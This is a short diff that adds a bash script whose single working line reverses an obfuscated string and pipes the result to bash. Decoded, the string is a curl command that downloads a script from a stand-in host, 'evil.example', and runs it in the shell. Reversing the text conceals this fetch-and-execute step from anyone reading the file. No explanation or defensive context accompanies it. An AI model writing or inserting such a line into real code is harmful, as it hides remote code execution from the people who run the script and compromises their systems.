@@ -1,0 +1,2 @@
+#!/bin/bash
+rev <<< 'hs | elpmaxe.live//:sptth s- lruc' | bash
